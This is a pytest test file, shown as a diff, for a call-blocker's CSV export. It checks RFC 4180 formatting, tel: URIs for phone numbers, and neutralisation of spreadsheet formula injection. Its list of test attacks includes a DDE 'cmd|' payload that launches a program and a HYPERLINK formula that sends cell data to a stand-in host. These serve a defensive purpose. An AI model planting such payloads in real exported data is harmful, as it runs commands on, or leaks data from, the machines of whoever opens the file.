@@ -1,0 +1,164 @@
+"""Promises about calls.csv: RFC 4180, every call, and no text of a stranger that a spreadsheet would run."""
+
+import csv
+import io
+import re
+from typing import Any
+
+import pytest
+from fakes.entries import WITHHELD, local, screened
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from blocker.core import record
+from blocker.core.number import Unusable
+from blocker.core.observed import NO_STATEMENT, SeenCall, Statement, seen_call, statement_of
+from blocker.core.verdict import Match, Reason
+from blocker.renderers.calls_csv import COLUMNS, harmless, writer
+
+AT = local("2026-11-17 09:12:33.123")
+SIGNS = "=+-@\t\r\n＝＋－＠"
+BACK = re.compile(rf"(^|[;,\"\t\r\n])([^\S\t\r\n]*)'(?=[{re.escape(SIGNS)}'])")
+"""The way back, as the module's docstring and the specification tell it."""
+
+ATTACKS = [
+    "=1+1",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    "\N{NO-BREAK SPACE}=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "x;=cmd|' /C calc'!A0;",
+    "x,=1",
+    'x"=1',
+    'x","=1',
+    "x;\t=1",
+    "'=1",
+    "''",
+    '=HYPERLINK("http://192.0.2.1/?"&A1;"Click")',
+]
+
+
+def rows(*calls: SeenCall) -> list[dict[str, str]]:
+    """The calls as a reader of CSV gets them."""
+    file = io.StringIO(newline="")
+    write = writer(file)
+    for call in calls:
+        write(call)
+    return list(csv.DictReader(io.StringIO(file.getvalue(), newline=""), strict=True))
+
+
+def cells_of(line: str, separator: str) -> list[str]:
+    """How a careless spreadsheet splits a line: at every separator and quote."""
+    return [part for quoted in line.split(separator) for part in quoted.split('"')]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_no_text_of_a_stranger_begins_a_formula(text: str) -> None:
+    """Not at the beginning of a cell, and not where a spreadsheet that separates otherwise begins one."""
+    made = harmless(text)
+    for separator in ",;\t":
+        for cell in cells_of(made, separator):
+            assert not cell.lstrip(" \N{NO-BREAK SPACE}").startswith(tuple(SIGNS)), cell
+    assert BACK.sub(r"\1\2", made) == text
+
+
+@given(st.text(st.sampled_from([*SIGNS, "'", '"', ";", ",", " ", "x", "\N{NO-BREAK SPACE}"])))
+@example("\t=")
+def test_every_text_can_be_had_back(text: str) -> None:
+    """What is done to a text is undone by the one substitution that is documented."""
+    assert BACK.sub(r"\1\2", harmless(text)) == text
+
+
+@pytest.mark.parametrize("text", ["", "Anna", "Proximus", "a-b", "1+1", "O'Neil", "x = y", "tel:+3225550345", "é;x"])
+def test_ordinary_texts_stay_as_they_are(text: str) -> None:
+    """A sign in the middle of a word is no formula."""
+    assert harmless(text) == text
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_every_column_that_a_stranger_can_reach_is_harmless(attack: str) -> None:
+    """Caller name, number, called number, line, match, company, and whoever marked it."""
+    content = screened(
+        AT,
+        "c",
+        number=Unusable(attack, "noise"),
+        raw=attack,
+        name=attack,
+        called=attack,
+        matches=(Match("x", attack, ""),),
+    )
+    content["line"] = attack
+    said = record.statement(AT, "c", mark="marketing", said_company=attack, company=None, by=attack)
+    (row,) = rows(seen_call(1, content, None, statement_of(9, said)[1]))
+    for column, cell in row.items():
+        assert not cell.lstrip().startswith(tuple(SIGNS)), column
+    assert "\n" not in "".join(row.values())
+
+
+def test_numbers_are_tel_uris() -> None:
+    """A bare +32… is a formula to a spreadsheet; RFC 3966 has a form that every program can read."""
+    (row,) = rows(seen_call(1, screened(AT, "c", called="+3225550100"), None))
+    assert row["presented_number"] == "tel:+3225550345"
+    assert row["called_number"] == "tel:+3225550100"
+
+
+def test_a_row_has_everything_that_is_known() -> None:
+    """Column by column, of a call that was refused and then marked."""
+    content = screened(AT, "c0ffee", reason=Reason.BLOCK_LIST, matches=(Match("block-list", "+3225550345", "list"),))
+    outcome = record.outcome(AT, "c0ffee", acknowledged=True, after_ms=7)
+    (row,) = rows(seen_call(12, content, outcome, Statement(15, "marketing", "Proximus", "proximus", "Anna")))
+    assert row == {
+        "entry": "12",
+        "call": "c0ffee",
+        "standing": "unwanted",
+        "utc": "2026-11-17T08:12:33.123Z",
+        "local_time": "2026-11-17T09:12:33.123+01:00",
+        "time_zone": "Europe/Brussels",
+        "line": "landline",
+        "called_number": "025550100",
+        "presented": "e164",
+        "presented_number": "tel:+3225550345",
+        "caller_name": "",
+        "decision": "block",
+        "reason": "block-list",
+        "match": "block-list +3225550345 (list)",
+        "action": "reject",
+        "happened": "refused",
+        "acknowledged_after_ms": "7",
+        "flagged": "no",
+        "observe_only": "no",
+        "mark": "marketing",
+        "said_company": "Proximus",
+        "company": "proximus",
+        "marked_by": "Anna",
+        "statement_entry": "15",
+    }
+    assert tuple(row) == COLUMNS
+
+
+def test_what_isnt_known_is_empty() -> None:
+    """A withheld number leaves no trace, an unmarked call names nobody."""
+    content: Any = screened(AT, "c", number=WITHHELD)
+    content["presented"]["raw"] = "+32475551234"
+    (row,) = rows(seen_call(1, content, None, NO_STATEMENT))
+    assert [row[name] for name in ("presented_number", "caller_name", "mark", "said_company", "statement_entry")] == [
+        ""
+    ] * 5
+
+
+def test_the_file_is_rfc_4180() -> None:
+    """A header, CRLF after each row, quotes where a cell needs them and doubled within."""
+    file = io.StringIO(newline="")
+    writer(file)(seen_call(1, screened(AT, "c", name='a "b", c'), None))
+    header, row, end = file.getvalue().split("\r\n")
+    assert header == ",".join(COLUMNS)
+    assert '"a ""b"", c"' in row
+    assert end == ""
